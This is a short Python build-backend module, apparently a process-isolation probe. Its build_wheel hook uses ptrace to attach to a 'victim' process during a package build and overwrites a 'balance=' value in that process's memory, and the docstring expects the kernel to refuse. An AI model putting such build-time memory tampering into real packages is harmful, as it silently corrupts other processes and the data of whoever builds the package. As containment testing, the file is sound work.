"""Attaches to another process with ptrace(2) and overwrites a word in its memory.

The kernel refuses another uid, another user namespace's capabilities, a number from
outside the process namespace; one refusal is enough.
"""

import os

import calls
import kit

PTRACE = {"x86_64": 101, "aarch64": 117}
POKEDATA, ATTACH, DETACH = 5, 16, 17
WORD = int.from_bytes(b"tampered", "little")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("attach"):
        victim = kit.callable_pid("victim")
        calls.syscall(PTRACE, ATTACH, victim, 0, 0)
        os.waitpid(victim, 0)
        for address, _ in list(kit.search_memory(victim, b"balance=")):
            calls.syscall(PTRACE, POKEDATA, victim, address + len("balance="), WORD)
        calls.syscall(PTRACE, DETACH, victim, 0, 0)
    return kit.wheel(wheel_directory)
